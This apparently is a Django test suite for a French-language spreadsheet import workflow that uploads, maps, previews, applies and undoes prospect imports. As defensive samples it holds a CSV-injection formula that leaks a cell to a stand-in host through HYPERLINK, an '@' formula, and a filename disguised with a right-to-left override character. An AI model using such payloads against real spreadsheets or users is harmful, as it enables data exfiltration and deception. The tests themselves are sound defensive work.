"""The pages of an import, walked as an officer does, and every file that is not what its name says."""

import csv as reader
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from tests.exchange.spreadsheets.test_spreadsheets import xlsx
from trousseau.captation.imports import tasks
from trousseau.captation.imports.columns import guess
from trousseau.captation.imports.tasks import work
from trousseau.captation.models import Import, Prospect

from .conftest import CALCAIRE, HEADER, TUFFEAU, csv

pytestmark = pytest.mark.django_db


@pytest.fixture(autouse=True)
def signed_in(client, officer, on_day, settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "documents"
    on_day("2026-11-24")
    client.force_login(officer)


def page(client, name: str, source: Import):
    return client.get(reverse(f"captation:{name}", args=[source.pk]))


def send(client, name: str, source: Import, **given):
    source.refresh_from_db()
    return client.post(reverse(f"captation:{name}", args=[source.pk]), {"version": source.version, **given})


@pytest.fixture
def upload(client):
    def make(content: bytes, name: str = "suivi.csv", **changes):
        return client.post(
            reverse("captation:import_new"),
            {
                "file": SimpleUploadedFile(name, content),
                "label": "Suivi 2026",
                "ground": "own",
                "act": "Suivi de l’agence",
                "keep_until": "2027-12-31",
                **changes,
            },
        )

    return make


def say(client, source: Import, **changes):
    columns = {f"c{place}": code for code, place in guess(source.header).items()}
    return send(client, "import_columns", source, **{**columns, **changes})


def walk(client, upload, *rows: str) -> Import:
    """Up to the preview."""
    assert upload(csv(*rows)).status_code == 302
    source = Import.objects.latest("pk")
    assert say(client, source).status_code == 302
    work(Import.objects.get(pk=source.pk))
    source.refresh_from_db()
    return source


def test_an_officer_uploads_maps_looks_applies_and_undoes(client, upload):
    sent = upload(csv(CALCAIRE, TUFFEAU.replace(";92;", ";grand;")))
    source = Import.objects.get()
    assert sent.url == reverse("captation:import_columns", args=[source.pk])
    columns = client.get(sent.url)
    assert "Rubis" in columns.content.decode() and columns.context["form"]["c0"].value() == "owner_name"
    assert say(client, source).url == reverse("captation:import", args=[source.pk])
    assert page(client, "import", source).headers["Refresh"] == "2"
    work(Import.objects.get(pk=source.pk))
    looked = page(client, "import", source)
    html = looked.content.decode()
    assert "Refresh" not in looked.headers and "Rien n’est encore écrit" in html and not Prospect.objects.exists()
    assert "Ligne 3" in html.replace("\xa0", " ") and "K (Surface)" in html and "grand" in html
    assert "Rubis Calcaire" in page(client, "import_rows", source).content.decode()
    assert "grand" in page(client, "import_problems", source).content.decode()
    assert send(client, "import_apply", source).status_code == 302
    work(Import.objects.get(pk=source.pk))
    assert Prospect.objects.count() == 1
    assert "Un prospect créé" in (done := page(client, "import", source).content.decode()) or "1 prospect créé" in done
    assert send(client, "import_undo", source).status_code == 302
    work(Import.objects.get(pk=source.pk))
    assert not Prospect.objects.exists() and "Il n’en reste rien" in page(client, "import", source).content.decode()


def test_a_change_above_the_share_is_asked_about_first(client, upload):
    first = walk(client, upload, CALCAIRE, TUFFEAU)
    send(client, "import_apply", first)
    work(Import.objects.get(pk=first.pk))
    dearer = walk(client, upload, CALCAIRE.replace(";450;", ";470;"))
    asked = page(client, "import_apply", dearer)
    assert asked.context["much"] == (1, 2, 20) and "agreed" in asked.context["form"].fields
    refused = send(client, "import_apply", dearer)
    assert refused.status_code == 422 and refused.context["form"].errors.keys() == {"agreed"}
    assert send(client, "import_apply", dearer, agreed="on").status_code == 302


def test_one_column_does_not_say_two_things_and_a_needed_one_is_asked_for(client, upload):
    upload(csv(CALCAIRE))
    source = Import.objects.get()
    twice = say(client, source, c1="owner_name")
    assert twice.status_code == 422 and twice.context["form"].errors.keys() == {"c1"}
    lacking = send(client, "import_columns", source, c0="owner_name")
    assert lacking.status_code == 422 and "Aucune colonne ne dit" in lacking.content.decode()


def test_what_is_unusual_is_confirmed_on_its_page_with_who(client, officer, upload):
    source = walk(client, upload, CALCAIRE.replace(";44,5;", ";300;"))
    assert "300" in page(client, "import_confirm", source).content.decode()
    assert send(client, "import_confirm", source).status_code == 422
    assert send(client, "import_confirm", source, lines=["2"]).status_code == 302
    assert source.rows.get().confirmed_by == officer
    assert "Inhabituel, confirmé par Basile Pinson" in page(client, "import_rows", source).content.decode()


def test_an_import_is_set_aside_by_its_page(client, upload):
    source = walk(client, upload, CALCAIRE)
    assert send(client, "import_drop", source).status_code == 302
    source.refresh_from_db()
    assert source.state == "dropped" and not source.rows.exists()


def test_a_workbook_named_csv_is_read_as_what_it_is(client, upload):
    row = "".join(
        f'<c t="inlineStr"><is><t>{word}</t></is></c>' for word in ("Nom", "Voie", "INSEE", "Pièces", "Surface")
    )
    values = "".join(
        f'<c t="inlineStr"><is><t>{word}</t></is></c>' for word in ("Calcaire", "3 rue du Modèle", "21231", "2", "44,5")
    )
    sent = upload(xlsx(f'<row r="1">{row}</row><row r="2">{values}</row>'), "suivi.csv")
    source = Import.objects.get()
    assert sent.status_code == 302 and "xlsx" in source.dialect
    say(client, source)
    work(Import.objects.get(pk=source.pk))
    assert list(source.rows.values_list("verdict", flat=True)) == ["new"]


@pytest.mark.parametrize(
    ("content", "name"),
    [
        (b"%PDF-1.4 faux", "suivi.csv"),
        (b"PK\x03\x04 faux", "suivi.xlsx"),
        (b"\xd0\xcf\x11\xe0 ancien", "suivi.xlsx"),
        (b"", "vide.csv"),
        (b"un seul mot", "mot.csv"),
        (b"a;b\n1", "\u202esvc.exe"),
    ],
)
def test_a_wrong_file_is_refused_beside_its_field_and_nothing_is_kept(client, upload, content, name):
    answer = upload(content, name)
    if answer.status_code == 302:  # a small table under a strange name is a table all the same
        assert content == b"a;b\n1"
        return
    assert answer.status_code == 422 and answer.context["form"].errors.keys() == {"file"}
    assert not Import.objects.exists()


def test_three_hundred_columns_are_all_offered_and_the_needed_ones_found(client, upload):
    more = ";".join(f"c{n}" for n in range(285))
    upload(csv(CALCAIRE + ";" * 285, header=f"{HEADER};{more}"))
    source = Import.objects.get()
    columns = page(client, "import_columns", source)
    assert columns.status_code == 200 and len(columns.context["form"].lines()) == 300
    assert say(client, source).status_code == 302
    work(Import.objects.get(pk=source.pk))
    assert list(source.rows.values_list("verdict", flat=True)) == ["new"]


FORMULA = '=HYPERLINK("http://essai.example?"&A1)'


def test_a_formula_is_never_computed_nor_given_back_as_one(client, upload):
    named = CALCAIRE.replace("Calcaire;Rubis", f'"{FORMULA.replace(chr(34), chr(34) * 2)}";').replace(
        ";44,5;", ";grand;"
    )
    source = walk(client, upload, named, TUFFEAU.replace("Tuffeau;Onyx", "@SOMME(A1);"))
    assert not Prospect.objects.filter(owner__name__startswith="=").exists()
    for name in ("import_rows", "import_problems"):
        answer = client.get(reverse(f"captation:{name}", args=[source.pk]) + "?format=csv")
        text = b"".join(answer.streaming_content).decode("utf-8-sig")
        for row in reader.reader(io.StringIO(text), delimiter=";"):
            assert not any(cell.startswith(("=", "+", "@", "-")) for cell in row), row


def test_a_name_that_would_be_a_formula_leaves_the_list_as_a_text(client, meet):
    meet("=1+1")
    answer = client.get(reverse("captation:list") + "?format=csv")
    assert "'=1+1" in b"".join(answer.streaming_content).decode("utf-8-sig")


@pytest.mark.parametrize("state", ["reading", "applying", "undoing"])
def test_a_defect_is_said_on_its_page_and_the_work_is_taken_up_again(client, upload, monkeypatch, state):
    source = walk(client, upload, CALCAIRE)
    if state == "reading":
        upload(csv(TUFFEAU))
        source = Import.objects.first()
        say(client, source)
    else:
        send(client, "import_apply", source)
    if state == "undoing":
        work(Import.objects.get(pk=source.pk))
        send(client, "import_undo", source)
    source.refresh_from_db()
    assert source.state == state
    with monkeypatch.context() as patch:
        patch.setitem(tasks.WORK, source.state, lambda source: {}["Zéphyrine Marqueur"])
        with pytest.raises(RuntimeError):
            tasks.work_on_import.func(source.pk)
    answer = page(client, "import", source)
    said = " ".join(answer.content.decode().split())
    assert "Refresh" not in answer.headers and "défaut du logiciel" in said and "Marqueur" not in said
    assert "Reprendre le travail" in said
    client.post(reverse("captation:import_resume", args=[source.pk]))
    tasks.work_on_import.func(source.pk)
    source.refresh_from_db()
    assert source.state == {"reading": "ready", "applying": "applied", "undoing": "undone"}[state]


def test_a_file_is_set_aside_where_a_defect_stopped_its_reading_not_while_it_is_read(client, upload, monkeypatch):
    upload(csv(TUFFEAU))
    source = Import.objects.get()
    say(client, source)
    assert send(client, "import_drop", source).status_code == 422
    with monkeypatch.context() as patch:
        patch.setitem(tasks.WORK, "reading", lambda source: 1 / 0)
        with pytest.raises(RuntimeError):
            tasks.work_on_import.func(source.pk)
    assert "Écarter cet import" in page(client, "import", source).content.decode()
    assert send(client, "import_drop", source).status_code == 302
    source.refresh_from_db()
    assert (source.state, source.file.name) == ("dropped", "")
